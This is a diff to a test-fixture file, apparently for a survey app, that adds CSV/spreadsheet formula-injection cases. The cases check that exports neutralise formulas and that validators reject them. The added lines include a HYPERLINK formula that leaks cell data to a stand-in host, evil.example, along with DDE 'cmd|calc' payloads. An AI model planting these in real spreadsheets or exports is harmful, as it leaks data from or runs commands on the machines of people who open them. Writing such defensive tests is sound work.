@@ -162,3 +162,41 @@ SURVIVING_TEXT = [
         " javascript:alert(4)</p>",
     ),
 ]
+
+#: Survey answers a spreadsheet would run as formulas (OWASP, "CSV Injection"): each goes into
+#: a respondent's name, education and interests; every CSV and workbook cell we write shows it
+#: as text, and reading our files back gives the answer as it was typed.
+FORMULAS = [
+    Attack(
+        f"formula starting with {label}",
+        "a survey answer (name, education, interests) → responses.csv, pairs.csv, scores.csv",
+        payload,
+        "written with a leading quote (text in any spreadsheet); read back as typed (a quote "
+        "typed before a formula marks it as text, as in a spreadsheet)",
+    )
+    for label, payload in [
+        ("=", '=HYPERLINK("https://evil.example/?"&A2;"Click")'),
+        ("+", "+1+cmd|' /C calc'!A0"),
+        ("-", "-2+3+cmd|' /C calc'!A0"),
+        ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("a tab", "\t=1+1"),
+        ("a carriage return", "\r=1+1"),
+        ("a quote before =", "'=1+1"),
+    ]
+]
+
+#: Ids and emails are checked strictly enough that no formula passes as one.
+FORMULA_IDS = [
+    Attack(
+        "formula as an email",
+        "a survey's email answer",
+        "=cmd|calc!A0@evil.org",
+        "expected an email address, got '=cmd|calc!A0@evil.org'",
+    ),
+    Attack(
+        "formula as an id",
+        "a survey's id answer",
+        "=1+1",
+        "expected an id that starts with a letter or digit, got '=1+1'",
+    ),
+]
